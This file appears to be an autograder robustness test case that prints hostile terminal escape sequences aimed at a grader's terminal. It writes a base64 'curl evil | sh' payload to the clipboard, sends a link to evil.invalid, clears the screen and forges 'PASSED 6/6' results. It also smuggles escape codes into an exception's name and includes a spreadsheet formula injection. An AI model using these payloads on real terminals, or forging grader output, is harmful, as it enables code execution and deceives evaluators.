"""Prints escape sequences aimed at the TA's terminal: titles, clipboards, links, cleared screens, keys typed for them.

They stand in what is printed, in the error's name and text, and so in the run's own sentence.
"""

# zoo: {"verdict": ["cell_error"], "points": {"q1": 1, "q2": 0, "q3": 0}}
# %% q1
HONEST
BELL, START = "\x07", "\x1b]"
for text in (
    "0;owned",
    "52;c;Y3VybCBldmlsIHwgc2g=",
    "8;;https://evil.invalid" + BELL + "click" + BELL,
    "1337;File=inline=1:AA==",
):
    print(START + text + BELL, "\x9d" + text + "\x9c")
print(
    "\x1b[2J\x1b[H\x1b[3J\x1b[1;1H\x1b[?1049h\x1b[6n\x1b[5i\x1bP+q544e\x1b\\\x1bc\x1b#8\x0e",
    "\x1b[31m" * 20_000,
)
print("honest\rPASSED 6/6\x1b[K\x08\x08\x08")

# %% q2
kind = type("Error\x1b]0;owned\x07\x1b[2J", (Exception,), {})
raise kind("\x1b]52;c;Y3VybA==\x07\x1b[1A\x1b[2Kverdict: ok, 6 of 6 points\x1b[0m\r\n=cmd|' /C calc'!A0")
